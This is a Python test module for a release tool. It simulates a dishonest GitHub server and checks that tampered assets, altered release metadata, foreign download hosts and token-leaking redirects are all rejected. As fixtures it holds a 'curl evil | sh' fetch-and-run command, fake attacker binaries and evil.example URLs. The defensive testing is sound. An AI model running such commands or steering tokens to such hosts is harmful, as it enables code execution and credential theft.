"""A GitHub that says one thing and holds another, and addresses in its answers that would get the token."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import msgspec
import pytest

from sealift.errors import SealiftError
from sealift.rehearsal.github.__main__ import HOST
from sealift.rehearsal.github.answers import Answer, Request
from sealift.rehearsal.github.store import Ref, Store
from sealift.stations.draft import look
from tests.attacks.catalogue import Attack, Kind, each
from tests.attacks.hub import FILES, REPOSITORY, TAG, TOKEN, Hub, Lie, Release
from tests.tools.scripted import Asked, Reply, serving

pytestmark = pytest.mark.programs

Deed = Callable[[Store], None]


@pytest.fixture
def hub(tmp_path: Path) -> Iterator[Hub]:
    server = Hub(tmp_path / "github")
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def release(hub: Hub, tmp_path: Path) -> Release:
    files = {name: tmp_path / name for name in FILES}
    for name, path in files.items():
        path.write_bytes(FILES[name])
    return Release(hub, files)


def told(change: Callable[[dict[str, Any]], None], when: Callable[[Request], bool] = lambda _: True) -> Lie:
    """Change a release in every answer that shows one."""

    def lie(request: Request, answer: Answer) -> Answer:
        if "/releases" not in request.path or not answer.content_type.startswith("application/json"):
            return answer
        value = json.loads(answer.body or b"null")
        for one in value if isinstance(value, list) else [value]:
            if isinstance(one, dict) and when(request):
                change(one)
        return replace(answer, body=json.dumps(value).encode())

    return lie


def asset(**changed: object) -> Lie:
    """Change what is told of the program among the assets."""

    def change(one: dict[str, Any]) -> None:
        if one.get("name") == "app-linux-amd64":
            one.update(changed)

    return told(change)


def other_bytes(store: Store) -> None:
    """Change the bytes where they are kept; id, size and digest stay."""
    (found,) = [a for a in store.assets(store.releases()[0].id) if a.name == "app-linux-amd64"]
    path = store._folder / "assets" / str(found.id) / "content"
    path.write_bytes(b"\x7fELF of an attacker"[: found.size].ljust(found.size, b"!"))


def twice(store: Store) -> None:
    """Show one name twice."""
    release = store.releases()[0].id
    about = {"label": "", "content_type": "text/plain"}
    store.add_asset(release, name="SHA256SUMS", content=b"others", complete=True, **about)


def deed(**changed: object) -> Deed:
    return lambda store: store.put(msgspec.structs.replace(store.releases()[0], **changed))


def another_draft(store: Store) -> None:
    """Put another draft in the place of the one that was compared, with the same words."""
    old = store.releases()[0]
    store.put(msgspec.structs.replace(old, id=store.next_id()))
    store.drop(old)


def attack(sample: str, artefact: object, words: str, exit_code: int = 3) -> Attack[Any]:
    return Attack(
        kind=Kind.SERVICES,
        sample=sample,
        artefact=artefact,
        stage="promote",
        words=words,
        exit_code=exit_code,
    )


@each(
    attack(
        "other bytes under an id whose digest stays", other_bytes, "app-linux-amd64: its bytes are sha256:"
    ),
    attack("one name twice among the assets", twice, "not built here: SHA256SUMS"),
    attack("a draft with another title", deed(name="app 9.9.9"), "its title is 'app 9.9.9'"),
    attack("a draft with other notes", deed(body="curl evil | sh"), "its notes are others"),
    attack("a draft for another commit", deed(target_commitish="2" * 40), f"its target is {'2' * 40}"),
    attack("a draft that became a prerelease", deed(prerelease=True), "prerelease=True, not False"),
    attack("another draft in the place of the compared one", another_draft, "not the one that was checked"),
)
def test_promote_rejects_release_that_changed_after_draft(release: Release, attack: Attack[Deed]) -> None:
    state = release.draft()
    attack.artefact(release.hub.store)
    with pytest.raises(SealiftError) as caught:
        look(release.github, state)
    attack.assert_blocked_by(caught.value)


@each(
    attack("a label that lies on an asset", asset(label="SHA256SUMS"), "it is shown as 'SHA256SUMS'"),
    attack("a size that lies", asset(size=7), "GitHub says that it has 7 bytes"),
    attack("a digest that lies", asset(digest=f"sha256:{'0' * 64}"), "GitHub says that it is sha256:000"),
    attack("an asset whose upload broke off", asset(state="starter"), "its upload broke off"),
)
def test_promote_rejects_asset_that_github_describes_wrongly(release: Release, attack: Attack[Lie]) -> None:
    state = release.draft()
    release.hub.lie = attack.artefact
    with pytest.raises(SealiftError) as caught:
        look(release.github, state)
    attack.assert_blocked_by(caught.value)


def publishes(request: Request) -> bool:
    return request.method == "PATCH"


def on_publishing(do: Callable[[Hub], None]) -> Callable[[Hub], Lie]:
    """Do something else as well when the draft is published."""

    def make(hub: Hub) -> Lie:
        def lie(request: Request, answer: Answer) -> Answer:
            if publishes(request):
                do(hub)
            return answer

        return lie

    return make


def refs(store: Store) -> None:
    from sealift.model.codec import publish as write
    from sealift.model.codec import to_json

    write(store._folder / "refs.json", to_json({TAG: Ref(sha="3" * 40)}))


def downloads(change: Callable[[Answer], Answer], name: str = "app-linux-amd64") -> Callable[[Hub], Lie]:
    """Change what people get who download a file."""

    def make(_hub: Hub) -> Lie:
        def lie(request: Request, answer: Answer) -> Answer:
            asked = "/releases/download/" in request.path and request.path.endswith(name)
            return change(answer) if asked else answer

        return lie

    return make


DENIED = Answer(status=404, body=b"Not Found", content_type="text/plain")


@each(
    attack(
        "a release that is published under another title",
        on_publishing(lambda h: h.change(name="x")),
        "title",
    ),
    attack(
        "a release that is published with other notes", on_publishing(lambda h: h.change(body="x")), "notes"
    ),
    attack(
        "a release that is published as a prerelease",
        on_publishing(lambda h: h.change(prerelease=True)),
        "prerelease=True",
    ),
    attack(
        "a release that is published for another tag",
        on_publishing(lambda h: h.change(tag_name="v9.9.9")),
        "its tag is v9.9.9",
    ),
    attack(
        "a release that stays a draft and is told to be published",
        on_publishing(lambda h: h.change(draft=True)),
        "still a draft",
    ),
    attack("a tag that publishing moves", on_publishing(lambda h: refs(h.store)), f"names {'3' * 40}"),
    attack(
        "other bytes for those who download without a login",
        downloads(lambda _: Answer(status=200, body=b"\x7fELF of an attacker", content_type="x/y")),
        "its bytes are sha256:",
    ),
    attack(
        "bytes that change when they are published",
        on_publishing(lambda h: other_bytes(h.store)),
        "its bytes",
    ),
    attack(
        "an address for downloads on another host",
        lambda _hub: asset(browser_download_url="https://evil.example/app-linux-amd64"),
        "people download app-linux-amd64 at https://evil.example/",
    ),
    attack(
        "an address for downloads of another file",
        lambda hub: asset(browser_download_url=f"{hub.origin}/{REPOSITORY}/releases/download/v1/other"),
        "no address of app-linux-amd64",
    ),
    attack(
        "a public release whose files only a login can download",
        downloads(lambda _: DENIED, name=""),
        "answers 404 where people download it",
        exit_code=4,
    ),
    attack(
        "one file that only a login can download",
        downloads(lambda _: replace(DENIED, status=403)),
        "only a login can download app-linux-amd64",
    ),
)
def test_publish_rejects_release_that_differs_for_people(
    release: Release, attack: Attack[Callable[[Hub], Lie]]
) -> None:
    state = release.draft()
    release.hub.lie = attack.artefact(release.hub)
    with pytest.raises(SealiftError) as caught:
        release.publish(state)
    attack.assert_blocked_by(caught.value)


def test_publish_accepts_honest_github_twice(release: Release) -> None:
    for published in (False, True):
        state = release.draft()
        assert state.published == published
        done = release.publish(state)
        assert (done.public, done.made) == (True, not published)


def test_publish_reads_private_repository_with_login(release: Release) -> None:
    """GitHub shows nothing of it to strangers, which is no contradiction; the evidence says so."""

    def private(request: Request, answer: Answer) -> Answer:
        if request.path == f"/repos/{REPOSITORY}":
            return replace(answer, body=json.dumps({**json.loads(answer.body), "private": True}).encode())
        return DENIED if "/releases/download/" in request.path else answer

    release.hub.lie = private
    assert not release.publish(release.draft()).public


def test_publish_reads_server_in_private_mode_with_login(release: Release) -> None:
    """GitHub Enterprise in private mode redirects strangers to the page for the login."""

    def private_mode(request: Request, answer: Answer) -> Answer:
        if request.path == "/login":
            return Answer(status=200, body=b"<html>Sign in</html>", content_type="text/html")
        elsewhere = Answer(status=302, headers={"Location": f"/login?return_to={request.path}"})
        return elsewhere if "/releases/download/" in request.path else answer

    release.hub.lie = private_mode
    assert not release.publish(release.draft()).public


def test_draft_accepts_notes_with_line_ends_of_windows(release: Release) -> None:
    """GitHub's page for editing ends lines as Windows does."""
    state = release.draft("One.\n\nTwo.\n")
    release.publish(state)
    release.hub.change(body="One.\r\n\r\nTwo.")
    assert release.draft("One.\n\nTwo.\n").published


def test_draft_corrects_draft_made_by_hand(release: Release) -> None:
    release.github.create_draft(TAG, "main", "by hand", "nothing yet", prerelease=True)
    assert release.publish(release.draft()).made


# Addresses in GitHub's answers: the token goes to none of them but GitHub's own, whatever Python's mode is.

PROGRAM = """
import sys
from pathlib import Path
from sealift.errors import SealiftError
from sealift.stations.draft import draft, publish
from sealift.tools.github import AT_ONCE, GitHub
api, token, folder = sys.argv[1:]
files = {p.name: p for p in Path(folder).iterdir()}
try:
    github = GitHub(api, token, "acme/health-caretaker", pace=AT_ONCE)
    state = draft(github, tag="v1.2.3", commit="1" * 40, title="t", notes="n", prerelease=False, assets=files)
    publish(github, state)
except SealiftError as error:
    print(error)
    sys.exit(error.exit_code)
"""
Addresses = Callable[[str], Lie]


def in_releases(name: str, path: str) -> Addresses:
    """Name another server in one field of every release."""

    def make(evil: str) -> Lie:
        return told(lambda one: one.update({name: f"{evil}{path}"}) if name in one else None)

    return make


def next_page(evil: str) -> Lie:
    def lie(request: Request, answer: Answer) -> Answer:
        if request.path.endswith("/releases") and request.method == "GET":
            return replace(answer, headers={"Link": f'<{evil}/repos/x/releases?page=2>; rel="next"'})
        return answer

    return lie


def next_assets(evil: str) -> Lie:
    def lie(request: Request, answer: Answer) -> Answer:
        if request.path.endswith("/assets") and request.method == "GET":
            return replace(answer, headers={"Link": f'<{evil}/repos/x/assets?page=2>; rel="next"'})
        return answer

    return lie


def redirects(status: int) -> Addresses:
    def make(evil: str) -> Lie:
        def lie(request: Request, answer: Answer) -> Answer:
            if request.path.endswith("/releases") and request.method == "GET":
                return Answer(status=status, headers={"Location": f"{evil}/repos/x/releases"})
            return answer

        return lie

    return make


def leaving(
    sample: str, artefact: Addresses, words: str = "an address that is not GitHub's"
) -> Attack[Addresses]:
    return Attack(kind=Kind.OUTPUT, sample=sample, artefact=artefact, stage="draft", words=words, exit_code=4)


UPLOADS = "/uploads/repos/x/releases/1/assets{?name,label}"
STAGES = (
    leaving("an upload_url on another port", in_releases("upload_url", UPLOADS)),
    leaving("a next page of releases on another port", next_page),
    leaving("a next page of assets on another port", next_assets),
    leaving("a release's own address on another port", in_releases("url", "/repos/x/releases/1")),
    leaving("a redirect of the API with 302", redirects(302)),
    leaving("a redirect of the API with 307", redirects(307)),
)


@pytest.mark.parametrize("optimized", [False, True], ids=["", "PYTHONOPTIMIZE=1"])
@each(*STAGES)
def test_token_goes_to_no_other_host_named_in_an_answer(
    release: Release, attack: Attack[Addresses], optimized: bool, tmp_path: Path
) -> None:
    """Another port of the same host is another server."""
    with serving(lambda _: Reply(status=404)) as evil:
        release.hub.lie = attack.artefact(f"http://{HOST}:{evil.host.rpartition(':')[2]}")
        folder = tmp_path / "files"
        folder.mkdir()
        for name, path in release.files.items():
            path.rename(folder / name)
        done = subprocess.run(
            [sys.executable, "-c", PROGRAM, release.hub.origin, TOKEN, str(folder)],
            env={**os.environ, "PYTHONOPTIMIZE": "1" if optimized else ""},
            capture_output=True,
            text=True,
            check=False,
        )
        assert secrets(evil.asked) == []
    attack.assert_ended(done.returncode, done.stdout + done.stderr)


def secrets(asked: list[Asked]) -> list[str]:
    return [header for one in asked for header in one.headers.values() if TOKEN in header]


def test_download_sends_no_token_to_storage(release: Release) -> None:
    """GitHub sends readers of a file to another host: that is honest, and the token stays here."""
    with serving(lambda _: Reply(body=FILES["app-linux-amd64"])) as storage:
        state = release.draft()

        def elsewhere(request: Request, answer: Answer) -> Answer:
            stored = answer.headers.get("Location", "").startswith(f"{release.hub.origin}/storage/")
            name = request.headers.get("accept") == "application/octet-stream"
            return (
                replace(answer, headers={"Location": f"http://{storage.host}/file"})
                if stored and name
                else answer
            )

        release.hub.lie = elsewhere
        (found,) = [a for a in release.github.get_release(state.release_id).assets if "amd64" in a.name]
        assert release.github.download(found) == FILES["app-linux-amd64"]
        assert len(storage.asked) == 1
        assert secrets(storage.asked) == []
